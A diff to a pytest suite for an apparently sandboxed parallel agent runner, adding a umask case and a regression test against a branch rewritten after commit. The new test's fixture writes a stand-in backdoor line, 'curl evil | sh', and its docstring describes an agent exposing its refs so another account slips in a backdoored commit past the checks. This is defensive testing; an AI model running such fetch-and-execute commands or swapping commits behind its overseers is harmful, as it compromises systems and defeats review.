@@ -1125,14 +1125,20 @@ def test_files_in_an_uninitialised_submodules_folder_fail_the_checks_they_feed(c
     assert r["status"] == "failed" and "sub/" in r["error"], (r, err)
 
 
+@pytest.mark.parametrize("umask", [0o022, 0o002])
 @pytest.mark.parametrize("sandbox", ["none", "bwrap"])
-def test_a_submodule_your_setup_checks_out_is_trusted(cli, repo, tmp_path, sandbox):
+def test_a_submodule_your_setup_checks_out_is_trusted(cli, repo, tmp_path, sandbox, umask):
     """Also in a sandbox, whose files are new files before the commit (round 37: the folder
-    was then taken as changed, and every such honest worker failed)."""
+    was then taken as changed, and every such honest worker failed), and with a umask of
+    002 (round 38: its folders lose the group's write before the commit)."""
     _with_submodule(repo, tmp_path, sandbox)
     _readable_inside(repo / ".subrepo", sandbox)
-    r, err = _one_worker(cli, tmp_path, "echo x > a.txt\n", "grep -q 1 sub/lib.py", sandbox,
-                         "--setup", SUBMODULE_SETUP)
+    old = os.umask(umask)
+    try:
+        r, err = _one_worker(cli, tmp_path, "echo x > a.txt\n", "grep -q 1 sub/lib.py", sandbox,
+                             "--setup", SUBMODULE_SETUP + " && mkdir sub/pkg")
+    finally:
+        os.umask(old)
     assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
 
 
@@ -2957,3 +2963,37 @@ def test_a_folder_others_may_write_at_the_checks_is_named(repo):
     os.chmod(repo / "open", 0o777)
     hidden = ap._Repo.find(str(repo)).hidden_from_commit(str(repo), [], [], {})
     assert hidden == ["open/ (a folder other accounts may write)"], hidden
+
+
+# -- review round 38 ---------------------------------------------------------------------------
+
+@needs_bwrap
+def test_a_branch_rewritten_after_the_commit_is_not_taken_for_it(cli, repo, tmp_path, monkeypatch):
+    """The agent opened its private refs folder to all and handed a descriptor of it to another
+    account, which put a commit of its own (a backdoor) at the branch right after the runner's
+    commit: the runner read the branch back, took that commit for its own, and the checks had
+    passed on the honest worktree. The commit is the one git named as it made it; a branch
+    moved since then fails the worker and is put back. (The other account's move is made
+    here at the worst moment: as the runner looks at the worktree before its checks.)"""
+    git("checkout", "-q", "-b", "evil", cwd=repo)
+    (repo / "app.txt").write_text("import os; os.system('curl evil | sh')\n")
+    git("add", "app.txt", cwd=repo)
+    git("commit", "-qm", "work", cwd=repo)
+    evil = git("rev-parse", "HEAD", cwd=repo)
+    git("checkout", "-q", "main", cwd=repo)
+    git("branch", "-D", "evil", cwd=repo)
+    real = ap.ParallelRunner._check_held
+
+    def moved(self, outside, job, result, gitlinks, nested):
+        ref = os.path.join(self._boxes[job.worker_id].path("refs"), "heads", job.branch)
+        with open(ref + ".new", "w") as f:
+            f.write(evil + "\n")
+        os.replace(ref + ".new", ref)
+        return real(self, outside, job, result, gitlinks, nested)
+
+    monkeypatch.setattr(ap.ParallelRunner, "_check_held", moved)
+    r, err = _one_worker(cli, tmp_path, "echo honest > app.txt\n", "true", "bwrap")
+    assert r["commit"] and r["commit"] != evil, (r, err)
+    assert git("rev-parse", "architect/parallel-1", cwd=repo) == r["commit"]
+    assert git("show", "architect/parallel-1:app.txt", cwd=repo) == "honest"
+    assert r["status"] == "failed" and "moved after its work was committed" in r["error"], r
